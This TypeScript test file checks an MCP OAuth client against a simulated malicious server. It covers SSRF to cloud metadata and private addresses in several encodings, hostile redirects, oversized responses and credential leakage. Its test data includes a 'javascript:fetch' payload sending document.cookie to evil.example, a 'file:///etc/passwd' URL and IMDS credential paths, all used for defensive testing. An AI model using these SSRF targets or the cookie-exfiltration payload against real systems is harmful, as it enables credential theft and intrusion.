// The OAuth client against an MCP server built to misbehave (issue 25), through the client's real paths: a `Client`
// connecting over Streamable HTTP and over legacy HTTP+SSE (the two transports OAuth applies to), whose `fetch` is
// `createOAuthFetch`. Every case here was observed to
// succeed for the attacker before the outbound gate existed (see the report of the change that added this file).
// Nothing leaves the machine: the test network (hostile-world.ts) refuses every host it does not map, and records it.
import {
  type AuthorizationError,
  clientCredentialsGrant,
  createOAuthFetch,
  findAuthorizationError,
  type OAuthClientOptions,
} from '@mcpkit/auth/client';
import { Client } from '@mcpkit/client';
import type { Transport } from '@mcpkit/jsonrpc-core';
import { SseClientTransport, StreamableHttpClientTransport } from '@mcpkit/transport-http';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  AS_ORIGIN,
  authorizationServerMetadata,
  challenge,
  type HostileWorld,
  MCP_ORIGIN,
  MCP_URL,
  resourceMetadata,
  startHostileWorld,
} from './hostile-world';

/** The HTTP client transports, each given the OAuth fetch. */
const TRANSPORTS: ReadonlyArray<[string, (url: URL, fetch: typeof globalThis.fetch) => Transport]> = [
  ['streamable HTTP', (url, fetch) => new StreamableHttpClientTransport(url, { fetch })],
  ['legacy HTTP+SSE', (url, fetch) => new SseClientTransport(url, { fetch })],
];

let world: HostileWorld;
let transportFor: (url: URL, fetch: typeof globalThis.fetch) => Transport;
beforeEach(async () => {
  world = await startHostileWorld();
});
afterEach(async () => {
  await world.close();
});

const PRM_PATH = 'mcp.hostile.test/.well-known/oauth-protected-resource/mcp';
const AS_METADATA_PATH = 'as.hostile.test/.well-known/oauth-authorization-server';

/** Connects a client through the OAuth fetch; resolves to the authorization error it failed with. */
async function connectFails(
  options: Partial<OAuthClientOptions> = {},
): Promise<{ error: AuthorizationError; elapsedMs: number }> {
  const oauthFetch = createOAuthFetch({
    provider: { clientCredentials: { clientId: 'app', issuer: AS_ORIGIN }, grant: clientCredentialsGrant() },
    ...options,
    fetch: world.fetch,
  });
  const client = new Client({ name: 'victim', version: '1.0.0' });
  const started = performance.now();
  const outcome = await client.connect(transportFor(new URL(MCP_URL), oauthFetch)).then(
    () => undefined,
    (error: unknown) => error,
  );
  const elapsedMs = performance.now() - started;
  await client.close().catch(() => {});
  const error = findAuthorizationError(outcome) as AuthorizationError | undefined;
  if (error === undefined) throw new Error(`expected an authorization error, got ${String(outcome)}`);
  return { error, elapsedMs };
}

/** The hosts the client tried to reach, other than the MCP server it was pointed at. */
const elsewhere = () => world.attempted.filter((url) => new URL(url).origin !== MCP_ORIGIN);

describe.each(TRANSPORTS)('over %s', (_name, makeTransport) => {
  beforeEach(() => {
    transportFor = makeTransport;
  });

  describe('resource_metadata pointing inside the network', () => {
    it('is refused for the loopback service without a request reaching it', async () => {
      world.routes.set('mcp.hostile.test/mcp', challenge(`${world.internalUrl}/admin/users`));
      const { error } = await connectFails();
      expect(error.code).toBe('ERR_UNSAFE_URL');
      expect(error.message).toMatch(/loopback/);
      expect(world.internalHits).toEqual([]);
      expect(elsewhere()).toEqual([]);
    });

    // Every spelling the URL parser turns into a private, loopback, link-local or unique-local literal.
    for (const target of [
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'https://169.254.169.254/latest/meta-data/',
      'http://2852039166/latest/meta-data/', // 169.254.169.254 in decimal
      'http://0251.0376.0251.0376/', // and in octal
      'https://[::ffff:169.254.169.254]/latest/meta-data/', // IPv4-mapped IPv6
      'https://[fe80::1]/',
      'https://[fd00:ec2::254]/latest/meta-data/', // unique-local (the IMDS IPv6 address)
      'https://10.0.0.1/',
      'https://192.168.1.1/',
      'https://[::1]/',
      'https://0x7f.1/admin',
      'https://localhost/admin',
    ]) {
      it(`is refused before any connection: ${target}`, async () => {
        world.routes.set('mcp.hostile.test/mcp', challenge(target));
        const { error } = await connectFails();
        expect(error.code).toBe('ERR_UNSAFE_URL');
        expect(elsewhere()).toEqual([]);
      });
    }

    it('reaches a private address only when the app opts in (the control for the cases above)', async () => {
      world.routes.set('mcp.hostile.test/mcp', challenge(`${world.internalUrl}/prm`));
      const { error } = await connectFails({ network: { allowPrivateNetwork: true } });
      // Fetched (the app allowed it), then refused for what it says: the document is not for this resource.
      expect(world.internalHits).toEqual(['/prm']);
      expect(error.code).toBe('ERR_RESOURCE_MISMATCH');
    });
  });

  describe('authorization_servers pointing inside the network or over plain http', () => {
    for (const issuer of ['INTERNAL', 'http://as.hostile.test', 'https://[::ffff:127.0.0.1]']) {
      it(`refuses ${issuer} without fetching its metadata`, async () => {
        const target = issuer === 'INTERNAL' ? world.internalUrl : issuer;
        world.routes.set('mcp.hostile.test/mcp', challenge(`${MCP_ORIGIN}/.well-known/oauth-protected-resource/mcp`));
        world.routes.set(PRM_PATH, resourceMetadata([target]));
        const { error } = await connectFails();
        expect(error.code).toBe('ERR_UNSAFE_URL');
        expect(world.internalHits).toEqual([]);
        expect(elsewhere()).toEqual([]);
      });
    }
  });

  describe('redirects', () => {
    it('never follows a metadata redirect to another origin', async () => {
      world.routes.set('mcp.hostile.test/mcp', challenge(`${MCP_ORIGIN}/prm`));
      world.routes.set('mcp.hostile.test/prm', (_request, response) =>
        response.writeHead(302, { location: 'https://evil.hostile.test/prm' }).end(),
      );
      world.routes.set('evil.hostile.test/prm', resourceMetadata([AS_ORIGIN]));
      const { error } = await connectFails();
      expect(error.code).toBe('ERR_UNSAFE_URL');
      expect(error.message).toMatch(/redirects to https:\/\/evil\.hostile\.test\/prm/);
      expect(world.served.filter((key) => key.startsWith('evil.'))).toEqual([]);
    });

    it('never follows a redirect into the network', async () => {
      world.routes.set('mcp.hostile.test/mcp', challenge(`${MCP_ORIGIN}/prm`));
      world.routes.set('mcp.hostile.test/prm', (_request, response) =>
        response.writeHead(307, { location: `${world.internalUrl}/admin` }).end(),
      );
      const { error } = await connectFails();
      expect(error.code).toBe('ERR_UNSAFE_URL');
      expect(world.internalHits).toEqual([]);
    });
  });

  describe('the authorization endpoint', () => {
    for (const endpoint of ['javascript:fetch("https://evil.example/"+document.cookie)', 'file:///etc/passwd']) {
      it(`refuses ${endpoint.split(':')[0]}: and never hands it to the app`, async () => {
        const opened: URL[] = [];
        world.routes.set('mcp.hostile.test/mcp', challenge(`${MCP_ORIGIN}/.well-known/oauth-protected-resource/mcp`));
        world.routes.set(PRM_PATH, resourceMetadata([AS_ORIGIN]));
        world.routes.set(AS_METADATA_PATH, authorizationServerMetadata({ authorization_endpoint: endpoint }));
        const { error } = await connectFails({
          provider: {
            clientCredentials: { clientId: 'app', issuer: AS_ORIGIN },
            redirectUrl: 'http://127.0.0.1:8765/callback',
            redirectToAuthorization: async ({ authorizationUrl }) => {
              opened.push(authorizationUrl);
              return undefined;
            },
          },
        });
        expect(opened).toEqual([]);
        expect(error.code).toBe('ERR_UNSAFE_URL');
        expect(error.message).not.toMatch(/\bnull\b/);
        expect(error.message).toContain('authorization_endpoint');
      });
    }
  });

  describe('bounded responses', () => {
    it('cuts a 200 MB metadata document off early; memory stays bounded', async () => {
      let sent = 0;
      world.routes.set('mcp.hostile.test/mcp', challenge(`${MCP_ORIGIN}/prm`));
      world.routes.set('mcp.hostile.test/prm', (_request, response) => {
        // Streamed, never allocated: 64 KiB at a time, with back-pressure, until 200 MB or the client hangs up.
        const chunk = Buffer.alloc(64 * 1024, 0x61);
        response.writeHead(200, { 'content-type': 'application/json' });
        response.write('{"resource":"');
        const pump = () => {
          while (sent < 200 * 1024 * 1024 && !response.destroyed) {
            sent += chunk.length;
            if (!response.write(chunk)) return void response.once('drain', pump);
          }
          response.end('"}');
        };
        response.on('close', () => response.destroy());
        pump();
      });
      const before = process.memoryUsage();
      const { error } = await connectFails({ network: { maxResponseBytes: 1024 * 1024 } });
      const after = process.memoryUsage();
      expect(error.code).toBe('ERR_RESPONSE_TOO_LARGE');
      // 1 MiB read, plus what sat in socket buffers when the client hung up: far from 200 MB.
      expect(sent).toBeLessThan(32 * 1024 * 1024);
      expect(after.heapUsed + after.arrayBuffers - (before.heapUsed + before.arrayBuffers)).toBeLessThan(
        64 * 1024 * 1024,
      );
    }, 20_000);

    it('times out a slow drip instead of waiting for ever', async () => {
      const timers: NodeJS.Timeout[] = [];
      world.routes.set('mcp.hostile.test/mcp', challenge(`${MCP_ORIGIN}/prm`));
      world.routes.set('mcp.hostile.test/prm', (_request, response) => {
        response.writeHead(200, { 'content-type': 'application/json' });
        response.write('{');
        const timer = setInterval(() => response.write(' '), 100);
        timers.push(timer);
        response.on('close', () => clearInterval(timer));
      });
      try {
        const { error, elapsedMs } = await connectFails({ network: { timeoutMs: 1_000 } });
        expect(error.code).toBe('ERR_RESPONSE_TIMEOUT');
        expect(elapsedMs).toBeLessThan(6_000);
      } finally {
        for (const timer of timers) clearInterval(timer);
      }
    }, 20_000);
  });

  describe('static client credentials', () => {
    it('are never sent to an authorization server the MCP server names, when configured without an issuer', async () => {
      const tokenRequests: string[] = [];
      world.routes.set('mcp.hostile.test/mcp', challenge(`${MCP_ORIGIN}/.well-known/oauth-protected-resource/mcp`));
      world.routes.set(PRM_PATH, resourceMetadata([AS_ORIGIN]));
      world.routes.set(AS_METADATA_PATH, authorizationServerMetadata());
      world.routes.set('as.hostile.test/token', (request, response) => {
        tokenRequests.push(String(request.headers.authorization));
        response
          .writeHead(200, { 'content-type': 'application/json' })
          .end('{"access_token":"x","token_type":"Bearer"}');
      });
      const { error } = await connectFails({
        provider: {
          clientCredentials: { clientId: 'app', clientSecret: 'the-real-secret' },
          grant: clientCredentialsGrant(),
        },
      });
      expect(error.code).toBe('ERR_CREDENTIALS_WITHOUT_ISSUER');
      expect(error.message).toMatch(/no issuer/);
      expect(tokenRequests).toEqual([]);
    });

    it('configured for another issuer, are not sent to this one', async () => {
      const authorizations: string[] = [];
      world.routes.set('mcp.hostile.test/mcp', challenge(`${MCP_ORIGIN}/.well-known/oauth-protected-resource/mcp`));
      world.routes.set(PRM_PATH, resourceMetadata([AS_ORIGIN]));
      world.routes.set(AS_METADATA_PATH, authorizationServerMetadata({ registration_endpoint: undefined }));
      world.routes.set('as.hostile.test/token', (request, response) => {
        authorizations.push(String(request.headers.authorization));
        response.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_client"}');
      });
      const { error } = await connectFails({
        provider: {
          clientCredentials: { clientId: 'app', clientSecret: 'the-real-secret', issuer: 'https://login.example.com' },
          grant: clientCredentialsGrant(),
        },
      });
      expect(error.code).toBe('ERR_REGISTRATION_FAILED');
      expect(authorizations.join(' ')).not.toContain(btoa('app:the-real-secret'));
    });
  });
});
